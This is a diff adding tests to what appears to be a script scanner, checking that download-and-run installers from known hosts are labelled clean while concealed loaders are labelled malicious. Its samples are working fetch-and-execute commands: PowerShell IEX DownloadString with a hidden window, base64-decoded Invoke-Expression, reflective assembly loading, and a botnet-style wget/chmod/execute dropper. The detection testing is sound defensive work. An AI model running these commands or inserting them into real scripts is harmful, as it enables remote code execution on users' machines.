@@ -59,3 +59,50 @@ test('an installer from where only its project puts anything weighs little', asy
       from,
     )
 })
+
+/** What installers of known projects and scripts of the own network share with attacks: by name, the finding that tells it. */
+const SHARED: Readonly<Record<string, readonly [finding: string, text: string]>> = {
+  'install.bat': [
+    'script_drops_fetched_program',
+    'bitsadmin /transfer p https://www.python.org/p.exe %TEMP%\\p.exe\n%TEMP%\\p.exe /quiet',
+  ],
+  'interface.ps1': [
+    'script_runs_decoded_answer',
+    '$a = Invoke-RestMethod "https://www.python.org/tools/install.json"\n$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a.content))\nInvoke-Expression $t',
+  ],
+  'logon.vbs': [
+    'script_runs_answer',
+    'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://intranet/parts.vbs", False\nh.Send\nExecute h.responseText',
+  ],
+  'main.go': [
+    'source_runs_fetched_code',
+    'package main\n\nimport "os/exec"\n\nfunc main() {\n\texec.Command("sh", "-c", "curl --proto =https -sSf https://sh.rustup.rs | sh").Run()\n}\n',
+  ],
+}
+
+for (const [name, [finding, text]] of Object.entries(SHARED)) {
+  test(`${name} is told and flagged by nothing, since its host is known`, async () => {
+    const { root, verdict } = await analyzeFile(Buffer.from(text), { fileName: name, now })
+    const ids = root.findings.map(({ id }) => id)
+    assert.ok(ids.includes(finding), ids.join(', '))
+    assert.equal(verdict.label, 'clean', `${verdict.score}: ${verdict.reasons.map(({ id }) => id).join(', ')}`)
+  })
+}
+
+/** Where the address is hidden, or what is done is hidden, the host in sight says nothing. */
+const SHOWN = 'https://get.docker.com'
+const CONCEALED: Readonly<Record<string, string>> = {
+  'hidden.bat': `powershell -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('${SHOWN}/x')"`,
+  'macro-words.bat': `set a=power\nset b=shell\n%a%%b% -c "iwr ${SHOWN}/a.exe -OutFile a.exe; saps a.exe"`,
+  'assembly.ps1': `$b = [Convert]::FromBase64String((New-Object Net.WebClient).DownloadString("${SHOWN}/a"))\n[Reflection.Assembly]::Load($b)`,
+  'loader.sh': `# ${SHOWN}\ncd /tmp || cd /var/run || cd /mnt\nwget ${SHOWN}/.b.mips -O /tmp/.b; chmod +x /tmp/.b; /tmp/.b\nwget ${SHOWN}/.b.arm7 -O /tmp/.b; chmod +x /tmp/.b; /tmp/.b`,
+}
+
+for (const [name, text] of Object.entries(CONCEALED)) {
+  test(`${name} is judged alike from a known host and from a stranger's`, async () => {
+    const labelOf = async (from: string): Promise<string> =>
+      (await analyzeFile(Buffer.from(text.replaceAll(SHOWN, from)), { fileName: name, now })).verdict.label
+    assert.equal(await labelOf(OWN), 'malicious')
+    assert.equal(await labelOf(SHOWN), 'malicious')
+  })
+}
